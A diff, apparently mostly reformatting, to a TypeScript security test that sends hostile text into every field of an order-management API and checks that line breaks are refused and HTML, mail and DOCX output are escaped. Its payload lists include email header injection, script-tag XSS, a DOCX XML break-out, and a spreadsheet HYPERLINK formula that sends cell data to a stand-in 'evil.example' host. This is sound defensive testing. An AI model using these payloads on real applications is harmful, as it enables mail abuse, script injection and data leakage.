@@ -22,7 +22,12 @@ import { bodyA, bodyB, EVENT, GOOD_ADDRESS, ORDER_TEST_ENV, writeLibrary } from 
 import { writeServiceAccount } from '../support/sheets-credentials.js';
 import { startSheetsEmulator } from '../support/sheets-emulator.js';
 
-const CRLF = ['Ada\r\nBcc: victim@example.com', 'Ada\nX-Injected: yes', 'Ada\rSubject: pwned', 'Ada\u2028Bcc: victim@example.com'];
+const CRLF = [
+  'Ada\r\nBcc: victim@example.com',
+  'Ada\nX-Injected: yes',
+  'Ada\rSubject: pwned',
+  'Ada\u2028Bcc: victim@example.com',
+];
 const HTML = ['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', '</w:t></w:r><w:r><w:t>injected'];
 const FORMULAS = [
   '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
@@ -62,16 +67,36 @@ async function sendAll(app: TestApp, payloads: string[], orderRef: () => Promise
   const ops = operations();
   const opFor = (method: string, p: string) => ops.find((o) => o.method === method && o.path === p) as Operation;
   const cases: { method: string; path: string; url: () => Promise<string>; body: unknown }[] = [
-    { method: 'POST', path: '/api/orders/create', url: async () => '/api/orders/create', body: bodyA({ shippingAddress: GOOD_ADDRESS }) },
+    {
+      method: 'POST',
+      path: '/api/orders/create',
+      url: async () => '/api/orders/create',
+      body: bodyA({ shippingAddress: GOOD_ADDRESS }),
+    },
     { method: 'POST', path: '/api/orders', url: async () => '/api/orders', body: bodyB() },
     {
       method: 'PUT',
       path: '/api/orders/{id}',
       url: async () => `/api/orders/${await orderRef()}`,
-      body: { customerName: 'Ada King', customerEmail: 'ada@example.com', customerPhone: '555-010-0000', ...{ shippingAddress: '1 Main St', city: 'Springfield', state: 'IL', zipCode: '62701' } },
+      body: {
+        customerName: 'Ada King',
+        customerEmail: 'ada@example.com',
+        customerPhone: '555-010-0000',
+        ...{ shippingAddress: '1 Main St', city: 'Springfield', state: 'IL', zipCode: '62701' },
+      },
     },
-    { method: 'POST', path: '/api/orders/{id}/update-shipping', url: async () => `/api/orders/${await orderRef()}/update-shipping`, body: { trackingNumber: '1Z999' } },
-    { method: 'POST', path: '/api/orders/{orderNumber}/feedback', url: async () => `/api/orders/${await orderRef()}/feedback`, body: { feedback: 'Lovely' } },
+    {
+      method: 'POST',
+      path: '/api/orders/{id}/update-shipping',
+      url: async () => `/api/orders/${await orderRef()}/update-shipping`,
+      body: { trackingNumber: '1Z999' },
+    },
+    {
+      method: 'POST',
+      path: '/api/orders/{orderNumber}/feedback',
+      url: async () => `/api/orders/${await orderRef()}/feedback`,
+      body: { feedback: 'Lovely' },
+    },
     {
       method: 'PUT',
       path: '/api/event-config',
@@ -86,7 +111,12 @@ async function sendAll(app: TestApp, payloads: string[], orderRef: () => Promise
     for (const leaf of stringLeaves(c.body)) {
       for (const payload of payloads) {
         for (const value of placed(leaf.value, payload)) {
-          const res = await app.inject({ method: c.method as 'POST', url, headers: adminHeaders, payload: withLeaf(c.body, leaf.path, value) as object });
+          const res = await app.inject({
+            method: c.method as 'POST',
+            url,
+            headers: adminHeaders,
+            payload: withLeaf(c.body, leaf.path, value) as object,
+          });
           sent.push({ op: opFor(c.method, c.path), field: `${c.method} ${c.path} ${leaf.path.join('.')}`, value, res });
         }
       }
@@ -121,25 +151,34 @@ async function mailFiles(dataDir: string): Promise<{ raw: string; html: string; 
 }
 
 describe('hostile text in every text field', () => {
-  test('CRLF and HTML: line breaks refused in one-line fields; mail headers intact, HTML and DOCX escaped', { timeout: 120_000 }, async (t) => {
+  test('CRLF and HTML: line breaks refused in one-line fields; mail headers intact, HTML and DOCX escaped', {
+    timeout: 120_000,
+  }, async (t) => {
     const dataDir = await tempDir(t);
     await writeLibrary(path.join(dataDir, 'photos'));
     const app = await build(t, { dataDir, env: { ...ORDER_TEST_ENV, OPERATOR_EMAIL: 'booth@example.com' } });
     // Edits go to a fresh order each time (a shipped or edited one would change what is allowed).
     const orderRef = async () => {
-      const res = await app.inject({ method: 'POST', url: '/api/orders/create', headers: adminHeaders, payload: bodyA() });
+      const res = await app.inject({
+        method: 'POST',
+        url: '/api/orders/create',
+        headers: adminHeaders,
+        payload: bodyA(),
+      });
       return (res.json() as { orderNumber: string }).orderNumber;
     };
     // A paid order, so that update-shipping gets as far as the tracking number.
     const paidRef = async () => {
       const n = await orderRef();
-      await app.inject({ method: 'POST', url: `/api/orders/${n}/update-status`, headers: adminHeaders, payload: { status: 'paid' } });
+      await app.inject({
+        method: 'POST',
+        url: `/api/orders/${n}/update-status`,
+        headers: adminHeaders,
+        payload: { status: 'paid' },
+      });
       return n;
     };
-    const sent = [
-      ...(await sendAll(app, CRLF, orderRef)),
-      ...(await sendAll(app, HTML, async () => paidRef())),
-    ];
+    const sent = [...(await sendAll(app, CRLF, orderRef)), ...(await sendAll(app, HTML, async () => paidRef()))];
     expectAnswered(sent);
 
     // A line break is never joined into a one-line field: refused (400; 404 where the field
@@ -148,14 +187,19 @@ describe('hostile text in every text field', () => {
     expect(oneLine.length).toBeGreaterThan(40);
     for (const s of oneLine) {
       const lookup = /eventSlug|photos/.test(s.field);
-      expect(s.res.statusCode, `${s.field} = ${JSON.stringify(s.value)}`).toBe(lookup && s.res.statusCode === 404 ? 404 : 400);
+      expect(s.res.statusCode, `${s.field} = ${JSON.stringify(s.value)}`).toBe(
+        lookup && s.res.statusCode === 404 ? 404 : 400,
+      );
     }
     const acceptedHtml = sent.filter((s) => s.res.statusCode < 300 && HTML.some((h) => s.value.includes(h)));
     expect(acceptedHtml.length).toBeGreaterThan(5);
     // What was accepted is kept as given (the API returns it, JSON-encoded).
-    const named = acceptedHtml.find((s) => s.field.endsWith('customerInfo.name') && s.value === '<script>alert(1)</script>');
-    expect(named?.res.json()).toMatchObject({ success: true });
-    const orderNumber = (named?.res.json() as { orderNumber: string }).orderNumber;
+    const named = acceptedHtml.find(
+      (s) => s.field.endsWith('customerInfo.name') && s.value === '<script>alert(1)</script>',
+    );
+    if (!named) throw new Error('the HTML name was not accepted');
+    expect(named.res.json()).toMatchObject({ success: true });
+    const orderNumber = (named.res.json() as { orderNumber: string }).orderNumber;
     const stored = await app.inject({ url: `/api/orders/${orderNumber}`, headers: adminHeaders });
     expect(stored.json().customerName).toBe('<script>alert(1)</script>');
     expect(stored.headers['content-type']).toMatch(/^application\/json/);
@@ -214,7 +258,12 @@ describe('hostile text in every text field', () => {
     });
     expect(app.store.kind).toBe('sheets');
     const orderRef = async () => {
-      const res = await app.inject({ method: 'POST', url: '/api/orders/create', headers: adminHeaders, payload: bodyA() });
+      const res = await app.inject({
+        method: 'POST',
+        url: '/api/orders/create',
+        headers: adminHeaders,
+        payload: bodyA(),
+      });
       expect(res.statusCode, res.body).toBe(201);
       return (res.json() as { orderNumber: string }).orderNumber;
     };
